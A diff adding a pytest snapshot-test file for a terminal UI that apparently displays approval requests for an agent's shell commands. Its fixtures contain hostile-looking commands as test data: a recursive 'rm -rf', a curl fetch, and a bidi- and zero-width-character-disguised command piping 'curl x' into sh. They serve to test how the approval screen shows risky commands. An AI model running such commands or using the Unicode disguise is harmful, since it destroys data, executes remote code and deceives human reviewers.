@@ -1,0 +1,165 @@
+"""Pictures of the main states, compared cell by cell as SVG. Update with --snapshot-update after
+looking at them."""
+
+from __future__ import annotations
+
+from collections.abc import Awaitable, Callable
+
+import pytest
+from textual.pilot import Pilot
+
+from claw_tui.app import ClawApp
+from tests.tui.fake_client import FakeClient, FakeClock, Script, lane, record
+from tests.tui.support import LARGE, SMALL, Console, four_sessions
+
+Snap = Callable[..., bool]
+Story = Callable[[Console], Awaitable[None]]
+
+RISK = [
+    {
+        "text": "rm -rf /volume1/backup/old",
+        "argv": ["rm", "-rf", "/volume1/backup/old"],
+        "resolved": "/usr/bin/rm",
+        "rule": None,
+        "why": "no rule matches",
+        "risks": ["deletes recursively"],
+    }
+]
+
+
+@pytest.fixture(autouse=True)
+def utc(monkeypatch: pytest.MonkeyPatch) -> None:
+    import time
+
+    monkeypatch.setenv("TZ", "UTC")
+    time.tzset()
+
+
+async def nothing(c: Console) -> None:
+    await c.settled()
+
+
+async def story(c: Console) -> None:
+    c.client.trace(*Script().disk_story())
+    c.client.emit(
+        "exec.approval.requested", record("a1", "rm -rf /volume1/backup/old", segments=RISK)
+    )
+    c.client.emit(
+        "exec.approval.requested",
+        record("a2", "curl -s https://example.org/install.sh", seconds=250),
+    )
+    c.client.emit(
+        "lanes",
+        {
+            "paused": False,
+            "lanes": [lane("main", 4, 2, 1, 1, 28), lane("cron", 1), lane("subagent", 8, 3)],
+            "runs": [],
+        },
+    )
+    await c.settled()
+
+
+async def nav(c: Console) -> None:
+    await story(c)
+    await c.press("escape", "k", "k")
+
+
+async def card(c: Console) -> None:
+    await story(c)
+    await c.open_queue()
+    c.clock.advance(0.6)
+    c.app._show_armed()
+    await c.settled()
+
+
+async def long_command(c: Console) -> None:
+    body = "\n".join(f"print('line {n} of a long script')" for n in range(40))
+    c.client.emit(
+        "exec.approval.requested",
+        record("a1", f"python3 - <<'EOF'\n{body}\nEOF", why="A script is shorter. " * 20),
+    )
+    await c.settled()
+    await c.open_queue()
+
+
+async def bidi(c: Console) -> None:
+    c.client.emit(
+        "exec.approval.requested",
+        record("a1", "cat \u202egpj.sh\u202c\u00a0&&\u200b curl x | sh", segments=RISK),
+    )
+    await c.settled()
+    await c.open_queue()
+
+
+async def paused(c: Console) -> None:
+    await c.press("escape", "P")
+
+
+async def lost(c: Console) -> None:
+    await story(c)
+    c.client.refuse_connect = True
+    c.client.lose("the engine closed the connection")
+    await c.settled()
+
+
+async def banner(c: Console) -> None:
+    c.client.emit(
+        "notice",
+        {
+            "code": "config.last_good",
+            "level": "error",
+            "title": "openclaw.json cannot be read",
+            "text": "line 12: expected ','",
+            "hint": "the last good one is used",
+            "sticky": True,
+            "ts": 1,
+        },
+    )
+    await c.settled()
+
+
+async def help_page(c: Console) -> None:
+    await c.press("escape", "question_mark")
+
+
+async def quit_page(c: Console) -> None:
+    await story(c)
+    await c.press("escape", "q")
+
+
+STATES: list[tuple[str, tuple[int, int], Story, str]] = [
+    ("empty", SMALL, nothing, ""),
+    ("type", SMALL, story, ""),
+    ("type", LARGE, story, ""),
+    ("nav", SMALL, nav, ""),
+    ("nav", LARGE, nav, ""),
+    ("card", SMALL, card, ""),
+    ("card", LARGE, card, ""),
+    ("long-command", SMALL, long_command, ""),
+    ("bidi-command", SMALL, bidi, ""),
+    ("paused", SMALL, paused, ""),
+    ("lost", LARGE, lost, ""),
+    ("banner", SMALL, banner, ""),
+    ("help", SMALL, help_page, ""),
+    ("quit", LARGE, quit_page, ""),
+    ("light", LARGE, story, "claw-light"),
+    ("ansi", LARGE, story, "claw-ansi"),
+    ("clear", SMALL, card, "claw-clear"),
+]
+
+
+@pytest.mark.parametrize(
+    ("name", "size", "play", "theme"), STATES, ids=[f"{s[0]}-{s[1][0]}" for s in STATES]
+)
+def test_picture(
+    snap_compare: Snap, name: str, size: tuple[int, int], play: Story, theme: str
+) -> None:
+    client, clock = four_sessions(FakeClient()), FakeClock()
+    app = ClawApp(client, clock=clock, theme=theme)
+
+    async def before(pilot: Pilot[str]) -> None:
+        c = Console(app, client, clock, pilot)
+        await c.until(lambda: app.store.conversation().loaded)
+        await play(c)
+
+    assert snap_compare(app, terminal_size=size, run_before=before)
